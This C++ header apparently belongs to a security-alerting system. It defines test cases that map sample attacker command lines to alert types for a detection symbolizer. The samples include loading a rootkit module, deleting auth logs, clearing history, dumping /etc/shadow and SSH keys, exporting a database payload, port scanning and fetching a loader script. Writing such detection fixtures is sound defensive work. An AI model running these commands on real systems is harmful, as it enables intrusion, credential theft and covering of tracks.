#pragma once
// The command lines the symbolizer's pattern table is pinned on, each with
// the alert it must map to. SymbolizerPatterns checks the mapping; the
// monitors' hostile-input tests mutate these lines as their seeds.

#include <ostream>

#include "alerts/taxonomy.hpp"

namespace at::alerts {

struct SymbolCase {
  const char* line;
  AlertType expected;
};

// Prints the expected symbol: the default printer dumps the case's raw bytes,
// pointer included, and that dump names the test, so the name would change
// from run to run.
inline void PrintTo(const SymbolCase& c, std::ostream* os) { *os << symbol(c.expected); }

inline constexpr SymbolCase kSymbolCases[] = {
    {"12:00:00 [h] insmod rootkit.ko", AlertType::kInstallKernelModule},
    {"12:00:01 [h] gcc -o mod abs.c", AlertType::kCompileSource},
    {"12:00:02 [h] rm -f /var/log/auth.log", AlertType::kLogTampering},
    {"12:00:03 [h] history -c", AlertType::kHistoryCleared},
    {"12:00:04 [h] SHOW server_version_num", AlertType::kVersionRecon},
    {"12:00:05 [h] lowrite(0, '7F454C46...')", AlertType::kDbPayloadEncoding},
    {"12:00:06 [h] select lo_export(16385, '/tmp/kp')", AlertType::kDbFileExport},
    {"12:00:07 [h] cat ~/.ssh/id_rsa", AlertType::kSshKeyTheft},
    {"12:00:08 [h] cat ~/.ssh/known_hosts", AlertType::kKnownHostsEnumeration},
    {"12:00:09 [h] nmap -p- 141.142.0.0/16", AlertType::kPortScan},
    {"12:00:10 [h] cat /etc/shadow", AlertType::kCredentialDump},
    {"12:00:11 [h] wget hXXp://194.145.xxx.yyy/ldr.sh?e7945e", AlertType::kDownloadSensitive},
    {"12:00:12 [h] sbatch job.sl", AlertType::kJobSubmitted},
};

}  // namespace at::alerts
